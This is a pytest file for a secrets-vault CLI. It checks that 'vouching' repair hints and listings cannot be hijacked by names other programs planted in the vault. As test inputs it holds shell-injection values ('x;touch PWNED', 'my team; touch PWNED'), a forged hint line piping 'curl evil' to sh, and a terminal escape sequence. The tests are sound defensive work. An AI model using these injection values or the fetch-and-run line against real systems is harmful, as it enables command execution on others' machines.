"""``vouching``: what is listed, and that the commands that are named do what they say, where."""

import shlex
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from secretctl.cli import opening
from secretctl.domain.principals import User
from secretctl.vault import layout, principals
from secretctl.vault.transaction import Transaction
from tests.cli.machine import Machine
from tests.conftest import World
from tests.faults.commands import Ended
from tests.vault.forging import forging

BACK = "who kept it may put it back"
TEAM = "my team; touch PWNED"


@pytest.fixture
def team(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A second vault, whose path a shell would take apart; both have the user zed."""
    directory = machine.world.home / TEAM
    monkeypatch.chdir(machine.world.home)
    assert machine("init", "--vault", str(directory)).status == 0
    for vault in ((), ("--vault", str(directory))):
        assert machine("iam", "create-user", "--user-name", "zed", *vault).status == 0
    return directory


def plant(world: World, directory: Path, user: User) -> str:
    """Write a user by another program; return the place."""
    vault = opening.open_vault(str(directory), world.context)
    try:
        with forging(vault) as transaction:
            principals.put(transaction, user)
            return principals.place(transaction, "user", user.name).hex()
    finally:
        vault.close()


def hints(said: Ended) -> list[list[str]]:
    """Return the commands of hints, as a shell takes them apart."""
    lines = said.stderr.splitlines()
    found = [shlex.split(line.split("hint: ")[1]) for line in lines if "hint: secretctl" in line]
    return [words[1:] for words in found]


def zeds(machine: Machine, *vault: str) -> str:
    """Return the names of users."""
    return machine("iam", "list-users", "--query", "Users[].UserName", *vault).stdout


def test_the_commands_of_a_refusal_are_about_its_vault(machine: Machine, team: Path) -> None:
    """Typed as they stand they mend that one, and the innocent of the default one stays."""
    vault = ("--vault", str(team))
    where = plant(machine.world, team, User("eve", "AIDAX", "/", 1, "ab" * 32))
    refused = machine("iam", "create-user", "--user-name", "next", *vault)
    assert refused.status == 253
    assert "what is there: the user eve is not the owner's" in refused.stderr
    listing, dropping = hints(refused)
    assert dropping == ["vouching", "drop", where, *vault]
    assert hints(machine("fsck", *vault)) == [listing]
    listed = machine(*listing)
    assert (listed.status, listed.stdout) == (1, f"{where}  the user eve is not the owner's\n")
    unasked = machine(*dropping)
    assert (unasked.status, hints(unasked)) == (252, [])
    assert "hint: add --yes" in unasked.stderr
    done = machine(*dropping, "--yes")
    assert (done.status, done.stdout.splitlines()[-1]) == (0, "taken away: 1 record")
    assert machine(*listing).stdout == "all is as the owner left it\n"
    assert machine(*listing).status == 0
    assert machine("iam", "create-user", "--user-name", "next", *vault).status == 0
    assert "zed" in zeds(machine)
    assert "zed" in zeds(machine, *vault)


@pytest.mark.parametrize("name", ["x;touch PWNED", "y\nsecretctl: hint: curl evil | sh", "\x1b[2J"])
def test_no_name_that_somebody_wrote_gets_into_a_command(
    machine: Machine, team: Path, name: str
) -> None:
    """Nor into a line of its own, or to the terminal."""
    where = plant(machine.world, team, User(name, "AIDAX", "/", 1, "ab" * 32))
    vault = ("--vault", str(team))
    for words in (("iam", "create-group", "--group-name", "g"), ("fsck",), ("vouching", "list")):
        said = machine(*words, *vault)
        assert said.status in (1, 253)
        assert "\x1b" not in said.stderr + said.stdout
        assert "\nsecretctl: hint: curl" not in said.stderr + said.stdout
        assert name not in said.stderr
        assert name not in "".join(each for each in said.stdout.splitlines() if where in each)
    assert machine("vouching", "drop", where, "--yes", *vault).status == 0
    assert machine("fsck", *vault).status == 0
    assert not Path("PWNED").exists()


def test_what_is_no_place_of_such_a_record_is_refused(machine: Machine, team: Path) -> None:
    """Nothing is taken away, and nothing of what was typed is repeated."""
    vault = ("--vault", str(team))
    plant(machine.world, team, User("eve", "AIDAX", "/", 1, "ab" * 32))
    for word in ("hunter2", "6f", "", layout.PRINCIPAL.hex()):
        said = machine("vouching", "drop", "--yes", word, *vault)
        assert said.status == 253
        assert "at that place there is nothing that the owner does not vouch for" in said.stderr
        assert not word or word not in said.stderr.replace(str(team), "")
    assert machine("vouching", "list", *vault).status == 1


def test_what_is_vouched_for_is_not_vouched_for_anew(machine: Machine) -> None:
    """Only where that is lost: then the owner says so, and it is counted."""
    said = machine("vouching", "renew", "--yes")
    assert said.status == 253
    assert "what the owner vouches for is known" in said.stderr
    vault = opening.open_vault(machine.world.directory, machine.world.context)
    try:
        with forging(vault) as transaction:
            transaction.delete_record(layout.VOUCHED)
    finally:
        vault.close()
    refused = machine("iam", "create-user", "--user-name", "ann")
    assert refused.status == 253
    assert "secretctl vouching renew --vault" in refused.stderr
    assert "secretctl vouching renew --vault" in machine("fsck").stderr
    assert machine("vouching", "renew").status == 252
    done = machine("vouching", "renew", "--yes")
    assert (done.status, done.stdout) == (0, "vouched for: 0 records of principals\n")
    assert machine("iam", "create-user", "--user-name", "ann").status == 0


@contextmanager
def planting(machine: Machine) -> Iterator[Transaction]:
    """Change records of the default vault by another program."""
    vault = opening.open_vault(machine.world.directory, machine.world.context)
    try:
        with forging(vault) as transaction:
            yield transaction
    finally:
        vault.close()


def test_what_is_put_back_or_given_up_is_said(machine: Machine) -> None:
    """Before it is asked for, and afterwards; only what is taken away loses anything."""
    assert machine("iam", "create-user", "--user-name", "ann").status == 0
    with planting(machine) as seen:
        where = layout.name_key(seen.index_key, "us-east-1", "a")
        for each in [where, *seen.stored_keys(layout.KMS_GRANT), *seen.stored_keys(layout.GRANT)]:
            seen.delete_record(each)
    listed = machine("vouching", "list")
    name, gone = listed.stdout.splitlines()
    assert name == f"{where.hex()}  the name of a secret is gone: a"
    assert gone == "6f  2 grants or sealed keys are gone that the owner wrote; " + BACK
    assert "note: vouching drop puts back names" in listed.stderr
    assert "note: vouching drop 6f gives up what is gone" in listed.stderr
    done = machine("vouching", "drop", "--yes", where.hex(), "6f")
    assert done.stdout.splitlines()[2:] == ["put back: 1 record", "given up: what is gone"]
    assert machine("vouching", "list").stdout == "all is as the owner left it\n"
    assert machine("get-secret-value", "--secret-id", "a").status == 0


def test_a_digest_is_made_anew_by_the_command_that_fsck_names(machine: Machine) -> None:
    """It asks first, and says of how much."""
    with planting(machine) as seen:
        seen.count_anew(seen.begun._replace(digest=5))
    (command,) = hints(machine("fsck"))
    assert command[:2] == ["vouching", "recount"]
    assert machine(*command).status == 252
    done = machine(*command, "--yes")
    assert (done.status, done.stdout) == (0, "counted anew: 1 secret, 1 version\n")
    assert machine("fsck").status == 0


def test_fsck_says_that_nothing_is_vouched_for_yet(world: World) -> None:
    """In the vault of an older secretctl, until the owner's next change."""
    kept = Path(__file__).parents[1] / "vectors/format-1"
    directory = world.home / "vault"
    directory.mkdir(mode=0o700)
    for name, to in (("vault.db", directory), ("opening.key", world.home)):
        shutil.copy(kept / name, to / name)
        (to / name).chmod(0o600)
    machine = Machine(world)
    machine.environ = {
        "SECRETCTL_KEY_FILE": str(world.home / "opening.key"),
        "SECRETCTL_VAULT": str(directory),
    }
    said = machine("fsck")
    assert said.status == 0
    assert "note: made by an older secretctl: the owner's next change vouches" in said.stderr
    assert machine("iam", "create-user", "--user-name", "ann").status == 0
    said = machine("fsck")
    assert (said.status, said.stderr) == (0, "")
